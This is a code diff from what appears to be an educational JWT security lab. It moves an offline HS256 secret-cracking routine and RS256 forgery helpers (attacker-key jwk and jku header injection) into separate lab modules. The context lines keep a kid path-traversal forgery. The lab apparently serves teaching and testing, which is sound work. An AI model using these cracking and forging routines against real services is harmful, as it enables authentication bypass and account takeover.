@@ -11,15 +11,14 @@ from __future__ import annotations
 import hashlib
 import hmac
 import html
-import json
-import random
 import time
 import warnings
 from contextlib import contextmanager
 from dataclasses import dataclass, field
-from pathlib import Path
 from typing import Any
 
+from sessionlab.labs.lab04a_crack import SUFFIXES, crack_hs256, load_wordlist, weak_secret
+from sessionlab.labs.lab04a_injection import attacker_key, forge_jku, forge_jwk_header
 from sessionlab.web.tokens import (
     FLAWS,
     TokenError,
@@ -34,97 +33,19 @@ from sessionlab.web.tokens import (
 __all__ = [
     "load_wordlist",
     "SUFFIXES",
-    "candidate_count",
     "crack_hs256",
-    "CrackResult",
     "weak_secret",
     "tamper",
     "forge_alg_none",
     "forge_hs256",
     "forge_alg_confusion",
     "forge_kid_path",
-    "forge_jwk_header",
-    "forge_jku",
-    "attacker_key",
-    "attacker_jwks",
     "token_diff",
     "ATTACKS",
     "AttackOutcome",
     "AttackLab",
     "pyjwt_refuses_pem_as_hmac",
 ]
-
-WORDLIST = Path(__file__).resolve().parents[3] / "data" / "jwt_secrets_wordlist.txt"
-# Mangling rules, as password crackers apply them: the word, then the word + 0..99.
-SUFFIXES = ("",) + tuple(str(n) for n in range(100))
-
-
-def load_wordlist(path: str | Path | None = None) -> list[str]:
-    text = Path(path or WORDLIST).read_text(encoding="utf-8")
-    return [w for w in (line.strip() for line in text.splitlines()) if w and not w.startswith("#")]
-
-
-def candidate_count(words, suffixes=SUFFIXES) -> int:
-    return len(words) * len(suffixes)
-
-
-def weak_secret(words, rng: random.Random | None = None) -> str:
-    """A weak secret as people pick them: a list word plus a two-digit number (from the list's back half)."""
-    rng = rng or random.SystemRandom()
-    word = rng.choice(words[len(words) // 2 :])
-    return f"{word}{rng.randint(10, 99)}"
-
-
-@dataclass
-class CrackResult:
-    secret: str | None
-    tried: int
-    total: int
-    seconds: float
-
-    @property
-    def found(self) -> bool:
-        return self.secret is not None
-
-    def __repr__(self) -> str:
-        what = "비밀 키를 찾았습니다" if self.found else "비밀 키를 찾지 못했습니다"
-        return f"<CrackResult {what}: 후보 {self.tried:,}/{self.total:,}개 시도>"
-
-
-def crack_hs256(token: str, words, suffixes=SUFFIXES, progress: bool = True) -> CrackResult:
-    """Offline dictionary attack on an HS256 token: HMAC every candidate, compare with the signature.
-
-    Offline means no server sees the attempts: no rate limit, no lockout helps.
-    """
-    header, _payload, signature = split_token(token)
-    if header.get("alg") != "HS256":
-        raise ValueError("HS256 토큰만 이 방법으로 깰 수 있습니다.")
-    signing_input = token.rsplit(".", 1)[0].encode("ascii")
-    total = candidate_count(words, suffixes)
-    bar = None
-    if progress:
-        from tqdm.auto import tqdm
-
-        bar = tqdm(total=total, unit="후보", unit_scale=True, desc="사전 공격", mininterval=0.25)
-    tried, start, found = 0, time.perf_counter(), None
-    digest = hmac.digest
-    try:
-        for word in words:
-            for suffix in suffixes:
-                candidate = (word + suffix).encode("utf-8")
-                if digest(candidate, signing_input, "sha256") == signature:
-                    found = word + suffix
-                    tried += 1
-                    break
-                tried += 1
-            if bar is not None:
-                bar.update(len(suffixes))
-            if found is not None:
-                break
-    finally:
-        if bar is not None:
-            bar.close()
-    return CrackResult(found, tried, total, time.perf_counter() - start)
 
 
 # --- forging ----------------------------------------------------------------------------
@@ -163,49 +84,6 @@ KID_TRAVERSAL = "../" * 12 + "dev/null"
 def forge_kid_path(token: str, **changes) -> str:
     """kid pointing at /dev/null: a verifier that opens kid as a file reads b'' as the key."""
     return forge_hs256(token, b"", header_changes={"kid": KID_TRAVERSAL}, **changes)
-
-
-ATTACKER_KID = "rs256-1"  # the victim's real kid: a verifier that trusts the header's key never looks it up
-
-
-def attacker_key():
-    """The attacker's own RSA key pair (nothing of the victim's)."""
-    from cryptography.hazmat.primitives.asymmetric import rsa
-
-    return rsa.generate_private_key(public_exponent=65537, key_size=2048)
-
-
-def _public_jwk(private_key, kid: str = ATTACKER_KID) -> dict:
-    import jwt
-
-    jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(private_key.public_key()))
-    return {**jwk, "kid": kid, "alg": "RS256", "use": "sig"}
-
-
-def attacker_jwks(private_key, kid: str = ATTACKER_KID) -> dict:
-    """The key set (JWKS, RFC 7517 §5) the attacker serves for a ``jku`` header."""
-    return {"keys": [_public_jwk(private_key, kid)]}
-
-
-def _sign_rs256(header: dict, payload: dict, private_key) -> str:
-    import jwt
-
-    extra = {k: v for k, v in header.items() if k not in ("alg", "typ")}
-    return jwt.encode(payload, private_key, algorithm="RS256", headers={"typ": header.get("typ"), **extra})
-
-
-def forge_jwk_header(token: str, private_key, **changes) -> str:
-    """Sign with the attacker's key and embed its public half as the header's ``jwk`` (RFC 7515 §4.1.3)."""
-    header, payload, _ = split_token(token)
-    new_header = {**header, "alg": "RS256", "kid": ATTACKER_KID, "jwk": _public_jwk(private_key)}
-    return _sign_rs256(new_header, {**payload, **changes}, private_key)
-
-
-def forge_jku(token: str, private_key, jku_url: str, **changes) -> str:
-    """Sign with the attacker's key; the header's ``jku`` (RFC 7515 §4.1.2) points at the attacker's key set."""
-    header, payload, _ = split_token(token)
-    new_header = {**header, "alg": "RS256", "kid": ATTACKER_KID, "jku": jku_url}
-    return _sign_rs256(new_header, {**payload, **changes}, private_key)
 
 
 def _short(value) -> str:
